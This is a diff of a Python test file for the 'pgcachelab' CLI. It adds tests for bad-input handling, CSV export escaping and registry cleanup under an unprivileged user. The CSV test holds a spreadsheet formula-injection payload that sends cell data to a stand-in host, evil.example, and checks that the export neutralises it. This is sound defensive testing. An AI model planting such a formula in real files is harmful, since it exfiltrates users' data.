@@ -1,22 +1,33 @@
-"""Issue 48, bad input round 4: each case with the issue's own input, through the real entry
-point; the doctor case on a real server with a role that cannot read data_directory."""
+"""Issue 48, bad input round 4, items 3, 4, 8, 9 and 12 and three more: each case with the
+issue's own input through the real entry point (a spec of /dev/zero under a memory limit),
+doctor and the agent on a real server, the owned registry as the unprivileged user."""
 
 import contextlib
+import csv
+import io
 import json
 import os
+import pwd
+import re
 import resource
 import shutil
 import sqlite3
 import subprocess
+import sys
+import tempfile
 from pathlib import Path
 
 import pytest
 from fix_cli import cli_command, cli_env, run_cli, run_cli_forked
 from fix_clusters import dsn_of
 from fix_lab import store_query
+from fix_processes import output_as_user, server_reachable_dir
+from test_store_postgresql import new_database
 
 from pgcachelab.machine import host_settings
 from pgcachelab.machine.host_tunables import listed_choices
+from pgcachelab.store.postgresql import PostgresResultStore
+from pgcachelab.store.queue import UnitQueue
 
 REPORT_RUNS_STORE = Path(__file__).parent / "data" / "report-runs" / "results.sqlite"
 CLI_MEMORY_BYTES = 1024**3  # a --plan takes ~200 MB; the unbounded read took 23.9 GB
@@ -42,8 +53,6 @@ def run_cli_bounded(*args, timeout_s: float = 60) -> subprocess.CompletedProcess
 
 def refused(result: subprocess.CompletedProcess, pattern: str) -> None:
     """Exit 2, one `pgcachelab:` line matching `pattern`, and a hint: no traceback."""
-    import re
-
     assert result.returncode == 2, result.stderr
     lines = [line for line in result.stderr.splitlines() if line.startswith("pgcachelab:")]
     assert len(lines) == 1 and re.search(pattern, lines[0]), result.stderr
@@ -60,7 +69,7 @@ def refused(result: subprocess.CompletedProcess, pattern: str) -> None:
         ("/dev/zero", "a character device"),
         ("/dev/urandom", "a character device"),
         ("/", "a directory"),
-    ],  # fmt: skip
+    ],
 )
 def test_a_spec_that_is_not_a_regular_file_is_refused_before_a_byte_is_read(path, kind):
     result = run_cli_bounded("run", path, "--plan")
@@ -194,3 +203,117 @@ def test_a_report_of_names_with_esc_and_bel_draws_them_escaped_and_warns_nothing
     drawn = "".join(svg.read_text() for svg in svgs)
     assert "\x1b" not in drawn and "\x07" not in drawn
     assert r"rate\x1b[31m\x07limited" in drawn  # as the terminal shows it
+
+
+# -- 12. agent --run last -----------------------------------------------------------------------
+
+
+@pytest.mark.server
+def test_agent_takes_last_as_every_command_does(shared_cluster, tmp_path):
+    shared_cluster.apply_settings({})
+    url = new_database(shared_cluster, "round4_agent")
+    store = PostgresResultStore(url)
+    try:
+        measured = store.create_run("measured", "m.toml", "", {}, {}, [])
+        args = ("agent", "--store", url, "--run", "last", "--once", "--host-id", "round4-agent")
+        not_queued = run_cli(*args, "--lab-dir", tmp_path / "lab")
+        queued = store.create_run("queued", "q.toml", "", {}, {}, [])
+        UnitQueue(store).enqueue(queued, [], "spread", 1)
+        taken = run_cli(*args, "--lab-dir", tmp_path / "lab")
+    finally:
+        store.close()
+    refused(not_queued, rf"--run: run '{measured}' was not queued")
+    assert taken.returncode == 0, taken.stderr
+    assert "agent measured 0 unit(s)" in taken.stderr
+
+
+# -- CSV export: a text cell that a spreadsheet would read as a formula --------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def test_csv_export_makes_formula_text_cells_text_and_leaves_numbers(tmp_path):
+    store = tmp_path / "results.sqlite"
+    shutil.copyfile(REPORT_RUNS_STORE, store)
+    steps = {0: FORMULA, 1: -2, 2: "-io"}  # a step name, a negative number, text with a minus
+    with contextlib.closing(sqlite3.connect(store)) as db, db:
+        for point, step in steps.items():
+            db.execute(
+                "update points set label = ?, swept = ? where run_id = ? and point_index = ?",
+                (f"{step}", json.dumps({"step": step}), TPCC_LADDER_RUN, point),
+            )
+    result = run_cli_forked("export", TPCC_LADDER_RUN, "--store", store)
+    assert result.returncode == 0, result.stderr
+    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    cells = {int(row["point_index"]): (row["label"], row["step"]) for row in rows}
+    assert cells == {0: (f"'{FORMULA}", f"'{FORMULA}"), 1: ("'-2", "-2"), 2: ("'-io", "'-io")}
+    assert all(not row["tps"].startswith("'") for row in rows)
+
+
+# -- the owned registry of an ordinary user without XDG_RUNTIME_DIR ----------------------------
+
+
+def _commands_as_the_user(tmpdir: Path, commands: list[list]) -> str:
+    """In the forked child, as the unprivileged user: each command through the entry point
+    with TMPDIR `tmpdir` and no XDG_RUNTIME_DIR; then what is left in `tmpdir`."""
+    from pgcachelab.cli import main as cli_main
+
+    os.environ.pop("XDG_RUNTIME_DIR", None)
+    os.environ["TMPDIR"] = str(tmpdir)
+    tempfile.tempdir = None
+    sys.stdout = sys.stderr = open(os.devnull, "w")  # noqa: SIM115 (the child ends anyway)
+    codes = []
+    for args in commands:
+        sys.argv = ["pgcachelab", *map(str, args)]
+        try:
+            cli_main.main()
+            codes.append(0)
+        except SystemExit as done:
+            codes.append(done.code)
+    return json.dumps({"codes": codes, "left": sorted(p.name for p in tmpdir.iterdir())})
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="becoming the unprivileged user needs root")
+def test_commands_of_a_user_without_a_runtime_dir_leave_no_registry_behind():
+    # The user cannot read this interpreter's standard library (under /root): what the
+    # commands import is imported before the fork.
+    import pgcachelab.cli.plan
+    import pgcachelab.cli.progress
+    import pgcachelab.report.tables
+    import pgcachelab.store.open  # noqa: F401
+
+    with server_reachable_dir() as base:  # /tmp/pytest-of-root is 0700
+        tmpdir = base / "tmp"
+        tmpdir.mkdir()
+        tmpdir.chmod(0o1777)
+        spec = tmpdir / "spec.toml"
+        spec.write_text('[pgbench]\nscale = 1\nduration = "1s"\n')
+        commands = [["run", spec, "--plan"], ["runs", "--lab-dir", tmpdir / "no-lab"]]
+        nobody = pwd.getpwnam("nobody")
+        done = output_as_user(nobody, lambda: _commands_as_the_user(tmpdir, commands))
+    assert json.loads(done) == {
+        "codes": [0, 2],  # a plan; a lab directory with no store
+        "left": ["spec.toml"],  # no pgcachelab-owned-UID
+    }
+
+
+def test_the_registry_goes_only_when_empty_and_never_waits_for_a_lab_using_it(
+    tmp_path, monkeypatch
+):
+    from pgcachelab.machine import owned
+
+    registry = tmp_path / "owned"
+    monkeypatch.setattr(owned, "registry_dir", lambda *_: registry)
+    entry = owned.record("dir", tmp_path / "x")
+    owned.remove_if_empty()
+    assert [e.path for e in owned.entries()] == [str(tmp_path / "x")]  # kept: it records one
+    owned.forget(entry)
+    with owned.registry_lock():  # another lab reaping: the directory is in use
+        owned.remove_if_empty()
+        assert registry.is_dir()
+    owned.remove_if_empty()
+    assert not registry.exists()
+    with owned.registry_lock():  # made again by the next lab that needs it
+        assert owned.entries() == []
+    owned.record("dir", tmp_path / "y")
+    assert len(owned.entries()) == 1
